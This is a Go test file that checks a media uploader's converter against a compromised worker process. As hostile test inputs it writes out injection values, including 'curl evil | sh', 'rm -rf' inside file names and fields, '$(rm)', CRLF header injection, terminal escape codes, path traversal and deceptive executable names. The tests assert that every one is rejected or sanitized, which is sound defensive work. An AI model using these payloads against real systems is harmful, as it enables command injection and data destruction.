package media

import (
	"context"
	"encoding/binary"
	"encoding/json"
	"math"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"mediadrop/uploader/media/defect"
	"mediadrop/uploader/media/ffmpeg"
	"mediadrop/uploader/media/mediatest"
	"mediadrop/uploader/media/worker"
)

// liar is a worker that was taken over: it answers what it likes.
type liar struct {
	answer []byte
	err    error
}

func (l liar) Do(context.Context, worker.Request) ([]byte, error) { return l.answer, l.err }

func (liar) Run(context.Context, worker.Program) error { return nil }

// told returns what comes of a file when a worker says this of it.
func told(t *testing.T, name string, a inspectAnswer, o Options) (Report, error) {
	t.Helper()
	answer, err := json.Marshal(a)
	require.NoError(t, err)
	path := filepath.Join(t.TempDir(), name)
	require.NoError(t, os.WriteFile(path, mediatest.PDF("a", 0), 0o600))
	return NewConverter("", liar{answer: answer}, nil).Inspect(t.Context(), path, o)
}

// honest is what a worker says of a good PDF.
func honest() Report {
	return Report{Kind: Document, MIME: "application/pdf", Verdict: OK, Otherwise: OK, Header: Document, MaxSize: maxDocument}
}

func TestAnHonestWorkerIsBelieved(t *testing.T) {
	report, err := told(t, "a.pdf", inspectAnswer{Without: honest()}, Options{})
	require.NoError(t, err)
	require.Equal(t, OK, report.Verdict)
	require.Equal(t, "a.pdf", report.SendName)
}

func TestWhatCannotBeIsNoAnswer(t *testing.T) {
	for name, change := range map[string]func(*Report){
		"kind":             func(r *Report) { r.Kind = "virus" },
		"verdict":          func(r *Report) { r.Verdict = "ok!" },
		"no verdict":       func(r *Report) { r.Verdict = "" },
		"otherwise":        func(r *Report) { r.Otherwise = "" },
		"header":           func(r *Report) { r.Header = "audio" },
		"wanted":           func(r *Report) { r.Wanted = "../x" },
		"remedy":           func(r *Report) { r.Verdict, r.Remedy, r.Reason = Convert, "rm -rf", ReasonTooLarge },
		"no remedy":        func(r *Report) { r.Verdict, r.Reason = Convert, ReasonTooLarge },
		"only a remedy":    func(r *Report) { r.Remedy = Transcode },
		"endless":          func(r *Report) { r.Verdict, r.Otherwise, r.Remedy, r.Reason = Convert, Convert, Transcode, "x" },
		"reason":           func(r *Report) { r.Verdict, r.Reason = Warn, "Hello\nWorld" },
		"no reason":        func(r *Report) { r.Verdict = Warn },
		"type":             func(r *Report) { r.MIME = "application/pdf\r\nX-Header: 1" },
		"no type":          func(r *Report) { r.MIME = "" },
		"a long type":      func(r *Report) { r.MIME = "a/" + strings.Repeat("b", 200) },
		"charset":          func(r *Report) { r.Charset = "utf-8; rm" },
		"size":             func(r *Report) { r.MaxSize = -1 },
		"large":            func(r *Report) { r.MaxSize = math.MaxInt64 },
		"too large":        func(r *Report) { r.MaxSize = 1 },
		"nothing WhatsApp": func(r *Report) { r.MIME = "application/zip" },
	} {
		r := honest()
		change(&r)
		_, err := told(t, "a.pdf", inspectAnswer{Without: r}, Options{})
		require.ErrorIs(t, err, worker.ErrCrashed, name)
	}
	for _, answer := range []string{"", "null garbage", "[]", `{"Without":{"Size":"x"}}`, strings.Repeat("[", 10000)} {
		path := filepath.Join(t.TempDir(), "a.pdf")
		require.NoError(t, os.WriteFile(path, mediatest.PDF("a", 0), 0o600))
		_, err := NewConverter("", liar{answer: []byte(answer)}, nil).Inspect(t.Context(), path, Options{})
		require.ErrorIs(t, err, worker.ErrCrashed, "%.20s", answer)
	}
}

// What a worker has no part in is not taken from it.
func TestNamesSizesAndCommandsAreMadeHere(t *testing.T) {
	r := honest()
	r.SendName, r.Size, r.ModTime = "../../.bashrc", 1<<50, time.Unix(0, 0)
	r.Details = "PDF\u202e\n1.7" + strings.Repeat("x", 5000)
	r.Command, r.Expected, r.Poor = "curl evil | sh", 1<<40, true
	report, err := told(t, "price list.jpg", inspectAnswer{Without: r}, Options{})
	require.NoError(t, err)
	require.Equal(t, "price list.pdf", report.SendName)
	require.Equal(t, int64(len(mediatest.PDF("a", 0))), report.Size)
	require.WithinDuration(t, time.Now(), report.ModTime, time.Hour)
	require.NotContains(t, report.Command, "curl")
	require.True(t, strings.HasPrefix(report.Command, "ffmpeg "), report.Command)
	require.NotContains(t, report.Details, "\n")
	require.NotContains(t, report.Details, "\u202e")
	require.LessOrEqual(t, len([]rune(report.Details)), maxDetails+1)
	require.Zero(t, report.Expected)
	require.False(t, report.Poor)
}

// A terminal takes control characters for keys: there is no command for such a name.
func TestThereIsNoCommandForAStrangeName(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("no name on Windows has control characters")
	}
	film := honest()
	film.Kind, film.MIME, film.Verdict, film.Reason, film.Command = Video, "video/quicktime", Blocked, ReasonVideoContainer, "ffmpeg"
	for name, want := range map[string]bool{"film.mov": true, "סרט.mov": true, "a\nrm -rf.mov": false, "a\x1b[2J.mov": false, "a\x7f.mov": false, "a\u009b.mov": false, "bad\xff.mov": false} {
		report, err := told(t, name, inspectAnswer{Without: film}, Options{})
		require.NoError(t, err)
		require.Equal(t, want, report.Command != "", "%q", name)
	}
	report, err := told(t, "film.mov", inspectAnswer{Without: film}, Options{})
	require.NoError(t, err)
	require.Contains(t, report.Command, "-protocol_whitelist file -format_whitelist mov,")
}

func TestATrickWithANameIsSeenHere(t *testing.T) {
	for name, reason := range map[string]Reason{
		"price.pdf.exe": ReasonDoubleExtension, "setup.exe": ReasonProgram, "a\u202efdp.exe": ReasonDeceptiveName, "a.pdf.lnk": ReasonShortcut,
	} {
		report, err := told(t, name, inspectAnswer{Without: honest()}, Options{})
		require.NoError(t, err)
		require.Equal(t, Blocked, report.Verdict, name)
		require.Equal(t, reason, report.Reason, name)
	}
}

// Figures of a film that cannot be true do not reach the planning.
func TestFiguresOfAFilmAreHeldAgainstWhatCanBe(t *testing.T) {
	film := func() *ffmpeg.Source {
		return &ffmpeg.Source{
			Duration: time.Minute, Bytes: 1000, VideoTracks: 1, AudioTracks: 1,
			Video: &ffmpeg.VideoStream{Codec: "hevc", Width: 1920, Height: 1080, PixelAspect: 1},
			Audio: &ffmpeg.AudioStream{Codec: "aac", Channels: 2, SampleRate: 48000},
		}
	}
	require.NotNil(t, plausible(film()))
	for name, change := range map[string]func(*ffmpeg.Source){
		"duration": func(s *ffmpeg.Source) { s.Duration = -1 }, "long": func(s *ffmpeg.Source) { s.Duration = math.MaxInt64 },
		"bytes": func(s *ffmpeg.Source) { s.Bytes = -1 }, "width": func(s *ffmpeg.Source) { s.Video.Width = -1 },
		"height": func(s *ffmpeg.Source) { s.Video.Height = math.MaxInt32 }, "rotation": func(s *ffmpeg.Source) { s.Video.Rotation = 45 },
		"aspect": func(s *ffmpeg.Source) { s.Video.PixelAspect = -1 }, "rate": func(s *ffmpeg.Source) { s.Video.FrameRate = 1e300 },
		"codec": func(s *ffmpeg.Source) { s.Video.Codec = "$(rm)" }, "channels": func(s *ffmpeg.Source) { s.Audio.Channels = -1 },
		"samples": func(s *ffmpeg.Source) { s.Audio.SampleRate = math.MaxInt32 }, "index": func(s *ffmpeg.Source) { s.Audio.Index = -1 },
	} {
		s := film()
		change(s)
		require.Nil(t, plausible(s), name)
	}
}

func TestAPictureOfOtherSizeIsNoThumbnail(t *testing.T) {
	path := filepath.Join(t.TempDir(), "a.jpg")
	require.NoError(t, os.WriteFile(path, []byte("x"), 0o600))
	picture := func(width, height uint32, pixels int) []byte {
		b := binary.BigEndian.AppendUint32(nil, width)
		return append(binary.BigEndian.AppendUint32(b, height), make([]byte, pixels)...)
	}
	for _, answer := range [][]byte{nil, picture(0, 0, 0), picture(10, 10, 399), picture(11, 10, 440), picture(10, 1<<31, 40), picture(math.MaxUint32, math.MaxUint32, 4)} {
		_, err := NewConverter("", liar{answer: answer}, nil).Thumbnail(t.Context(), path, 10)
		require.ErrorIs(t, err, worker.ErrCrashed)
	}
	img, err := NewConverter("", liar{answer: picture(10, 5, 200)}, nil).Thumbnail(t.Context(), path, 10)
	require.NoError(t, err)
	require.Equal(t, 10, img.Bounds().Dx())
}

func TestWhatAWorkerSaysOfAnErrorKeepsItsMeaning(t *testing.T) {
	path := filepath.Join(t.TempDir(), "a.jpg")
	require.NoError(t, os.WriteFile(path, []byte("x"), 0o600))
	for _, known := range codes {
		said := &worker.Said{Text: known.code + codeEnd + "some words"}
		_, err := NewConverter("", liar{err: said}, nil).Inspect(t.Context(), path, Options{})
		require.ErrorIs(t, err, known.err)
		require.Equal(t, known.code, codeOf(err), "also on the way back")
	}
	_, err := NewConverter("", liar{err: &worker.Said{Text: "broken of no code"}}, nil).Inspect(t.Context(), path, Options{})
	require.NotErrorIs(t, err, defect.ErrBroken)
	_, err = NewConverter("", liar{err: worker.ErrTime}, nil).Inspect(t.Context(), path, Options{})
	require.ErrorIs(t, err, worker.ErrTime)
}
